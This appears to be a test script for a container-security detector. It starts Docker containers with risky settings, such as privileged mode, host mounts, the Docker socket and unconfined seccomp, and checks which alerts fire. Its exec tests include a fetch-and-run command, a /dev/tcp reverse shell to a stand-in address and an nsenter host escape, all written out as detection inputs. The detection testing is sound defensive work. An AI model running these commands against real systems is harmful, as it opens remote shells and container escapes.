# Docker: how containers are started, what is run in them, what they print.
stream=events
host ''
mkdir -p /run/dk /run/image/bin /run/image/tmp
dockerd --data-root /run/dk/root --exec-root /run/dk/exec --pidfile /run/dk/pid --host unix:///run/docker.sock --storage-driver=vfs \
	--bridge=none --iptables=false --ip6tables=false >/out/docker.dockerd 2>&1 &
await Docker docker -H unix:///run/docker.sock info
export DOCKER_HOST=unix:///run/docker.sock
finish() {
	docker ps -aq | xargs -r docker rm -f >/dev/null 2>&1
	kill "$(cat /run/dk/pid)"
	for _ in $(seq 100); do [ -e /run/dk/pid ] || break; sleep 0.1; done
}
trap finish EXIT
# An image with busybox and bash.
cp /bin/busybox /run/image/bin/
for name in sh ls sleep true false id wget nc cat dd; do ln -s busybox /run/image/bin/$name; done
for file in /bin/bash $(ldd /bin/bash | grep -o '/[^ ]*'); do
	mkdir -p "/run/image$(dirname "$file")"
	cp -L "$file" "/run/image$file"
done
tar -C /run/image -c . | docker import - shop:1.0 >/dev/null
none='--network none'
run() { act docker run -d "$@"; }

begin docker.io; run $none --name web shop:1.0 sleep 600
gives container_privileged 'an ordinary container' 0 $stream .
gives container_host_files_writable 'an ordinary container' 0 $stream .
gives container_docker_socket 'an ordinary container' 0 $stream .
gives container_host_processes 'an ordinary container' 0 $stream .
gives container_host_network 'an ordinary container' 0 $stream .
gives container_capability_added 'an ordinary container' 0 $stream .
gives container_confinement_off 'an ordinary container' 0 $stream .
gives container_host_device 'an ordinary container' 0 $stream .
gives container_image_by_address 'an ordinary container' 0 $stream .
begin docker.io; run $none --privileged --name job shop:1.0 sleep 600
gives container_privileged 'with all privileges' 1 $stream .
begin docker.io; run $none -v /:/host --name all shop:1.0 sleep 600
gives container_host_files_writable 'the root of the host' 1 $stream .
begin docker.io; run $none -v /etc/cron.d:/jobs --name jobs shop:1.0 sleep 600
gives container_host_files_writable 'the jobs of cron' 1 $stream .
begin docker.io; run $none -v /:/host:ro -v /etc/localtime:/etc/localtime --name exporter shop:1.0 sleep 600
gives container_host_files_writable 'monitoring that reads' 0 $stream .
begin docker.io; run $none -v /run/docker.sock:/var/run/docker.sock --name panel shop:1.0 sleep 600
gives container_docker_socket 'a container that manages others' 1 $stream .
begin docker.io; run $none --pid host --name top shop:1.0 sleep 600
gives container_host_processes 'the processes of the host' 1 $stream .
begin docker.io; run --network host --name proxy shop:1.0 sleep 600
gives container_host_network 'the network of the host' 1 $stream .
begin docker.io; run $none --cap-add SYS_ADMIN --name mounter shop:1.0 sleep 600
gives container_capability_added 'may mount' 1 $stream .
begin docker.io; run $none --cap-add NET_BIND_SERVICE --name binder shop:1.0 sleep 600
gives container_capability_added 'may open low ports' 0 $stream .
begin docker.io; run $none --security-opt seccomp=unconfined --name free shop:1.0 sleep 600
gives container_confinement_off 'no filter of system calls' 1 $stream .
begin docker.io; run $none --security-opt no-new-privileges --name tight shop:1.0 sleep 600
gives container_confinement_off 'more confined' 0 $stream .
mknod /dev/sdz b 8 250 2>/dev/null
begin docker.io; run $none --device /dev/sdz --name disk shop:1.0 sleep 600
gives container_host_device 'a disk' 1 $stream .
begin docker.io; run $none --device /dev/null:/dev/net/x --name nodisk shop:1.0 sleep 600
gives container_host_device 'no disk' 0 $stream .

begin docker.io; act docker exec web sh
gives container_shell 'a shell' 1 $stream .
gives container_command_attack 'a shell' 0 $stream .
begin docker.io; act docker exec web bash -i
gives container_shell 'bash' 1 $stream .
begin docker.io; act docker exec web sh -c 'wget -q -O /dev/null http://127.0.0.1/ || exit 1'
gives container_shell 'a check of health' 0 $stream .
gives container_command_attack 'a check of health' 0 $stream .
gives container_packages_added 'a check of health' 0 $stream .
begin docker.io; act docker exec web sh -c 'wget -q -O - http://192.0.2.77/x | sh'
gives container_command_attack 'fetched and run' 1 $stream .
begin docker.io; act docker exec web bash -c 'bash -i >& /dev/tcp/192.0.2.77/4444 0>&1'
gives container_command_attack 'a shell tied to a connection' 1 $stream .
begin docker.io; act docker exec web nsenter -t 1 -m -u -i -n sh
gives container_command_attack 'out through the namespaces' 1 $stream .
begin docker.io; act docker exec web apt-get install -y nmap
gives container_packages_added 'apt-get' 1 $stream .
begin docker.io; act docker exec web apk add --no-cache curl
gives container_packages_added 'apk' 1 $stream .

begin docker.io; run $none -m 8m --name hungry shop:1.0 sh -c 'dd if=/dev/zero of=/dev/null bs=64M count=1'; sleep 2
gives container_out_of_memory 'more than it may have' 1 $stream .
begin docker.io; run $none --restart always --name shaky shop:1.0 false; sleep 6; act docker stop shaky
gives container_crash_loop 'five errors' 1 $stream .
gives container_out_of_memory 'errors' 0 $stream .
begin docker.io; for _ in 1 2 3 4 5 6; do act docker restart -t 0 web; done
gives container_crash_loop 'restarts by hand' 0 $stream .
begin docker.io; act docker export -o /tmp/web.tar web
gives container_copied_out 'exported' 1 $stream .
begin docker.io; act docker cp web:/bin/busybox /tmp/busybox
gives container_copied_out 'a file copied' 0 $stream .
docker tag shop:1.0 192.0.2.77:5000/shop:latest
begin docker.io; run $none --name foreign 192.0.2.77:5000/shop:latest sleep 600
gives container_image_by_address 'a container of it' 1 $stream .

begin docker.io bash; run $none --name shelled shop:1.0 bash -c 'bash -i </dev/null'
gives container_shell_without_terminal 'bash with a pipe for a terminal' 1 'container/*' .
begin docker.io bash; run $none --name plain shop:1.0 bash -c 'echo started; ls /none'
gives container_shell_without_terminal 'a script' 0 'container/*' .

# An ordinary day.
begin docker.io
act sh -c 'tar -C /run/image -c bin | docker import - shop:1.1'
printf 'FROM shop:1.0\nRUN ["/bin/true"]\nCMD ["/bin/sleep", "600"]\n' >/run/Dockerfile
act sh -c 'DOCKER_BUILDKIT=0 docker build --network none -t shop:1.2 - </run/Dockerfile'
for _ in 1 2 3; do act docker restart -t 0 web; done
act docker run --rm $none --health-cmd true shop:1.0 true
act docker rm -f web
act docker image prune -f
gives ordinary_containers 'restarts, a build, an update' 0 $stream .
